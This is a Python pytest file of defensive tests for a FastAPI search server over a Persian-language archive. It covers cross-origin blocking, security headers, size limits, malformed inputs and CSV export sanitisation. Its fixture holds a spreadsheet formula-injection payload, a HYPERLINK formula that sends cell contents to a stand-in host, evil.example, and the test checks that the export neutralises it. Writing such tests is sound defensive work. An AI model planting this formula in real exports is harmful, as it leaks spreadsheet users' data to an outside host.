"""What other sites, odd programs and hostile documents ask of a server (findings of the hostile test)."""

import base64
import csv
import io
import json
import re
from collections.abc import Iterator, Mapping

import pytest
from fastapi.testclient import TestClient

from corpora.tabular import BOM
from pipeline.settings import Settings
from pipeline.workspace import Workspace
from search_api.app import create_app
from tests.makers import ME

_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"تفاهم‌نامه")'


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    """A server whose archive has a document with a title that a spreadsheet would run."""
    folder = tmp_path_factory.mktemp("guard")
    line = {"id": "evil", "title": _FORMULA, "text": "دانشگاه تهران ۱۲ تفاهم‌نامه امضا کرد.\n\n=1+1 ۵ تفاهم‌نامه"}
    (folder / "evil.jsonl").write_text(json.dumps(line), encoding="utf-8")
    with Workspace(Settings(workspace=folder / "workspace", workers=1)) as space:
        space.ingest(ME, [folder / "evil.jsonl"])
    app = create_app(Workspace(Settings(workspace=folder / "workspace", workers=1, upload_bytes=50_000)))

    @app.get("/broken", include_in_schema=False)
    def broken() -> None:
        raise KeyError("a bug")

    with TestClient(app, base_url="http://localhost", raise_server_exceptions=False) as client:
        yield client


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({}, 202),
        ({"Origin": "http://localhost"}, 202),
        ({"Origin": "https://localhost"}, 403),
        ({"Origin": "http://evil.example"}, 403),
        ({"Origin": "null"}, 403),
        ({"Referer": "http://localhost/upload"}, 202),
        ({"Referer": "http://evil.example/form"}, 403),
        ({"Referer": "http://[bad"}, 403),
        ({"Sec-Fetch-Site": "cross-site"}, 403),
        ({"Sec-Fetch-Site": "same-site"}, 403),
        ({"Sec-Fetch-Site": "same-origin", "Origin": "http://localhost"}, 202),
    ],
)
def test_only_our_own_pages_and_programs_change_anything(
    server: TestClient, headers: Mapping[str, str], status: int
) -> None:
    answer = server.post("/api/v1/documents", headers=headers, files={"file": ("a.txt", "یزد".encode())})
    assert answer.status_code == status


@pytest.mark.parametrize(
    ("path", "status"),
    [("/", 200), ("/api/v1/search?q=یزد", 200), ("/nowhere", 404), ("/broken", 500), ("/api/v1/search?limit=0", 422)],
)
def test_each_answer_tells_browsers_what_they_may_do(server: TestClient, path: str, status: int) -> None:
    answer = server.get(path)
    assert answer.status_code == status
    assert "form-action 'self'" in answer.headers["content-security-policy"]
    assert "base-uri 'none'" in answer.headers["content-security-policy"]
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["referrer-policy"] == "same-origin"
    assert answer.headers["cache-control"] == "no-store"


def test_a_wrong_host_is_refused_with_the_same_headers(server: TestClient) -> None:
    for host in ("testserver", "evil.example", "localhost.evil.example"):
        answer = server.get("/", headers={"Host": host})
        assert (answer.status_code, answer.headers["cache-control"]) == (400, "no-store")


def test_styles_may_be_kept_and_a_newer_one_has_another_address(server: TestClient) -> None:
    assert server.get("/static/style.css").headers["cache-control"] == "public, max-age=3600"
    linked = re.findall(r'href="(/static/style\.css\?v=[0-9a-f]{12})"', server.get("/").text)
    assert len(linked) == 1
    assert server.get(linked[0]).status_code == 200


def test_a_head_is_a_get_without_its_body(server: TestClient) -> None:
    plain = {"accept-encoding": "identity"}
    whole, head = server.get("/?q=دانشگاه", headers=plain), server.head("/?q=دانشگاه", headers=plain)
    assert (head.status_code, head.content) == (200, b"")
    assert head.headers["content-length"] == str(len(whole.content))


def test_pages_are_compressed_and_versioned_files_kept_for_good(server: TestClient) -> None:
    page = server.get("/?q=دانشگاه", headers={"accept-encoding": "gzip"})
    assert (page.headers["content-encoding"], page.headers["cache-control"]) == ("gzip", "no-store")
    assert len(page.content) < 100_000
    assert "immutable" in server.get("/static/room.css?v=1").headers["cache-control"]


def test_a_method_that_is_not_there_says_which_are(server: TestClient) -> None:
    answer = server.put("/api/v1/search")
    assert (answer.status_code, answer.headers["allow"]) == (405, "GET")


def test_bodies_have_a_largest_size(server: TestClient) -> None:
    huge = b"[" + b" " * 1_100_000
    answer = server.post("/api/v1/entities/decisions", content=huge)
    assert (answer.status_code, answer.headers["content-type"]) == (413, "application/problem+json")

    def in_pieces() -> Iterator[bytes]:
        for _ in range(20):
            yield b" " * 65_536

    assert server.post("/api/v1/entities/decisions", content=in_pieces()).status_code == 413
    upload = server.post("/api/v1/documents", files={"file": ("a.txt", b"a" * 200_000)})
    assert upload.status_code == 413
    lied = server.post("/api/v1/documents", content=b"", headers={"Content-Length": "9" * 30})
    assert lied.status_code == 413


def test_methods_that_nobody_knows_share_one_label(server: TestClient) -> None:
    for number in range(20):
        server.request(f"BREW{number}", "/")
    told = server.get("/metrics").text
    assert 'method="other"' in told
    assert "BREW" not in told


@pytest.mark.parametrize(
    "path",
    [
        "/?month=abc-01",
        "/?month=1404-13",
        "/?month=1404-00",
        "/?month=99999-01",
        "/?q=یزد&month=١٤٠٤-٠١",
        "/entities?at=99999999999999999999999",
        "/entities?at=-1",
        "/?q=یزد&cursor=" + base64.urlsafe_b64encode(b"[" * 3000).decode(),
        "/api/v1/search?q=یزد&cursor=" + base64.urlsafe_b64encode(b"[" * 3000).decode(),
        "/api/v1/search?q=%ED%A0%80",
        "/documents/%ED%A0%80",
        "/counts?unit=%00",
    ],
)
def test_odd_addresses_are_answered(server: TestClient, path: str) -> None:
    for accept in ("text/html", "application/json"):
        assert server.get(path, headers={"Accept": accept}).status_code < 500


def test_a_spreadsheet_runs_nothing_of_what_is_exported(server: TestClient) -> None:
    for path in (
        "/api/v1/search/export?q=تفاهم‌نامه&format=csv",
        "/api/v1/indicators?unit=تفاهم‌نامه&format=csv",
    ):
        rows = list(csv.reader(io.StringIO(server.get(path).text.removeprefix(BOM))))
        assert len(rows) > 1
        assert [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t")] == []
    assert "'=HYPERLINK" in server.get("/api/v1/search/export?q=تفاهم‌نامه&format=csv").text


@pytest.mark.parametrize("text", [" ", "\n\n", "\0", "\N{ZERO WIDTH NON-JOINER}", "؟!"])
def test_an_entity_is_not_given_a_name_that_nobody_can_read(server: TestClient, text: str) -> None:
    entity = server.get("/api/v1/entities?q=دانشگاه تهران").json()[0]["entity"]
    answer = server.post(f"/entities/{entity['id']}", data={"verdict": "name", "text": text}, follow_redirects=False)
    assert answer.status_code in (409, 422)
    assert server.get(f"/api/v1/entities/{entity['id']}").json()["entity"]["name"] == entity["name"]


def test_a_verdict_that_is_none_is_not_taken_for_another(server: TestClient) -> None:
    entity = server.get("/api/v1/entities?q=دانشگاه تهران").json()[0]["entity"]["id"]
    before = server.get(f"/api/v1/entities/{entity}").json()
    data = {"verdict": "merge", "text": "دانشگاه یزد"}
    assert server.post(f"/entities/{entity}", data=data, follow_redirects=False).status_code == 422
    pair = {"one": entity, "other": entity, "verdict": "perhaps"}
    assert server.post("/entities/pairs", data=pair, follow_redirects=False).status_code == 422
    assert server.get(f"/api/v1/entities/{entity}").json() == before


def test_words_are_compared_only_in_lines_that_are_there(server: TestClient) -> None:
    """Two long lines of a stranger cost seconds of comparing; what is no line of the document costs none."""
    long = {"start": "0", "before": "ا " * 5000, "after": "ب " * 5000}
    assert server.post("/pages/nowhere/1", data=long, follow_redirects=False).status_code == 404
    key = server.get("/api/v1/search?q=دانشگاه").json()["items"][0]["key"]
    assert server.post(f"/pages/{key}/1", data=long, follow_redirects=False).status_code in (404, 409)
